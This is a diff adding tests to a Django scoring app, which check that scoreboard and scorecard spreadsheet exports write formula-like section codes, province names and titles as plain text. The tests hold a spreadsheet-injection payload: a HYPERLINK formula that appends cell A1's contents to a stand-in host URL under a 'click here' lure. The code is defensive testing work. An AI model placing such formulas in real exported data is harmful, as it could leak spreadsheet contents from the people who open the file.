@@ -452,3 +452,35 @@ def test_a_note_longer_than_the_form_allows_is_refused_with_its_row(backan):
     sheet.cell(rows["A2"], 5, "x" * 2000)
     assert backan.post(import_url(scorecard), {"file": upload(workbook)}).status_code == 302
     assert Score.objects.get(scorecard=scorecard, criterion__code="A2").note == "x" * 2000
+
+
+HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")'
+
+
+def test_formula_like_names_are_written_as_text_in_the_scoreboard(backan, scoring):
+    """A section code or a province name that a spreadsheet would run is written as text."""
+    from provinces.models import Province
+    from scoring.models import Section
+
+    Section.objects.filter(emulation_year__year=2014, code="A").update(code="=1+1")
+    Section.objects.filter(emulation_year__year=2014, code="B").update(code="@SUM(A1)")
+    Province.objects.filter(code="19").update(name=HYPERLINK)
+    sheet = workbook_of(backan.get(reverse("scoring:scoreboard_xlsx", args=[scoring.pk, 2014]))).active
+
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    headers = [c.value for c in sheet[4]]
+    assert headers[2:4] == ["'=1+1", "'@SUM(A1)"]
+    assert sheet["B6"].value == "'" + HYPERLINK and sheet["B6"].data_type == "s"
+
+
+def test_formula_like_titles_are_written_as_text_in_the_scorecard_template(backan):
+    from scoring.models import Criterion, Section
+
+    scorecard = card(2015, "06")
+    Section.objects.filter(emulation_year__year=2015, code="A").update(title=HYPERLINK)
+    Criterion.objects.filter(section__emulation_year__year=2015, code="A1").update(title="+" + HYPERLINK[1:])
+    sheet = export(backan, scorecard).worksheets[0]
+    rows = rows_by_code(sheet)
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert sheet.cell(rows["A"], 2).value == "'" + HYPERLINK
+    assert sheet.cell(rows["A1"], 2).value == "'+" + HYPERLINK[1:]
